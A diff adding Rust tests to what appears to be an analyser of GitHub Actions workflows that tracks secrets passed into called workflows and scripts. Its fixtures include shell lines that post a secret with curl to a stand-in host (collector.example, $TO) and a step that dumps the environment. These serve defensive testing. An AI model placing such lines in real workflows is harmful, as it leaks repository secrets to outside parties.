@@ -143,6 +143,59 @@ fn a_secret_goes_on_from_where_it_comes_from_here() {
     assert_eq!(count(&known), 1);
 }
 
+/// A reusable workflow of the same repository.
+struct Called(String);
+
+impl LocalFiles for Called {
+    fn read(&self, path: &str) -> LocalFile {
+        match path {
+            ".github/workflows/called.yml" => LocalFile::Text(self.0.clone()),
+            "send.sh" => LocalFile::Text("curl \"https://$TO/\" -d \"$KEY\"\n".to_owned()),
+            _ => LocalFile::Absent,
+        }
+    }
+}
+
+#[test]
+fn the_steps_of_a_called_workflow_are_known_too() {
+    let caller = |to: &str, before: &str| {
+        let call = format!(
+            "    uses: ./.github/workflows/called.yml\n    with:\n      to: {to}\n    secrets:\n      HANDED: ${{{{ secrets.KEY }}}}\n"
+        );
+        format!("{before}on: push\njobs:\n  a:\n{call}  b:\n    needs: a\n{call}")
+    };
+    let called = "on:\n  workflow_call:\n    inputs: {to: {type: string}}\nenv:\n  KEY: ${{ secrets.HANDED }}\n  TO: ${{ inputs.to }}\njobs:\n  c:\n    runs-on: x\n    steps:\n      - run: bash send.sh\n      - run: env\n";
+    let moved = format!("# A line more.\n{called}");
+    let known = KnownSteps::new();
+    for called in [called, &moved, called] {
+        let local = Called(called.to_owned());
+        for caller in
+            [caller("one.example", ""), caller("two.example", ""), caller("one.example", "# more\n")]
+        {
+            let anew = analysed(&caller, None, &local);
+            assert!(anew.contains("one.example") || anew.contains("two.example"));
+            assert_eq!(analysed(&caller, Some(&known), &local), anew);
+        }
+    }
+    assert_eq!(count(&known), 4, "two steps for each address");
+}
+
+#[test]
+fn a_step_that_takes_too_long_is_known_too_and_hides_none_after_it() {
+    let known = KnownSteps::new();
+    let long = "x=0123456789abcdef; for a in {1..13}; do x=$x$x; done; for a in {1..200}; do y=$x$x; done";
+    let text = CALLER
+        .replace("      - run: bash send.sh\n", &format!("      - run: {long}\n      - run: bash send.sh\n"));
+    let local = One("curl https://collector.example/ -d \"$KEY\"\n");
+    let anew = analysed(&text, None, &local);
+    assert!(anew.contains(TOO_LONG), "not too long");
+    assert!(anew.contains("collector.example"));
+    for _ in 0..2 {
+        assert_eq!(analysed(&text, Some(&known), &local), anew);
+        assert_eq!(count(&known), 2);
+    }
+}
+
 #[test]
 fn what_earlier_steps_left_makes_another_step() {
     let known = KnownSteps::new();
@@ -179,6 +232,7 @@ fn anchors_are_told_from_ampersands_of_scripts() {
 fn full_shards_start_again() {
     let known = KnownSteps::new();
     let followed = |length: usize| Followed {
+        home: 0,
         start: 0,
         met: Vec::new(),
         opened: Vec::new(),
@@ -189,6 +243,7 @@ fn full_shards_start_again() {
         decoded: vec!["x".repeat(length)],
         other_work: 0,
         spent: 0,
+        exhausted: false,
         left: Left::default(),
     };
     let room = KNOWN_BYTES_MAX / SHARDS - followed(0).size();
